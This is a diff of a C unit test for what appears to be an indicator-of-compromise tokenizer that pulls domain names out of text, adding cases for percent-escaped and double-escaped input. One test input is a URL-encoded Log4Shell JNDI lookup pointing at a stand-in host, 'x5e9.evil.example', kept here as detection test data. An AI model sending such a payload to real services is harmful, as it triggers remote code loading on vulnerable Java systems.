@@ -194,7 +194,10 @@ static void test_tokens(void **state)
 	/* domains need an alphabetic top-level label */
 	expect_tokens("log4j-core-2.14.1.jar and host.local and 1.2.3.x4", "domain=log4j-core-2.14.1.jar@0 domain=host.local@26");
 	expect_tokens("", "");
-	/* the callback can stop the walk */
+	/* percent escapes are cut out whole, also escaped twice */
+	expect_tokens("q=%24%7Bjndi%3Aldap%3A%2F%2Fx5e9.evil.example%2Fa%7D", "domain=x5e9.evil.example@28");
+	expect_tokens("q=%252Fx5e9.evil.example%2520", "domain=x5e9.evil.example@7");
+	expect_tokens("a%41b.example.com %", "domain=b.example.com@4");
 }
 
 static int stop_cb(const kb_ioc_token *t, void *ctx)
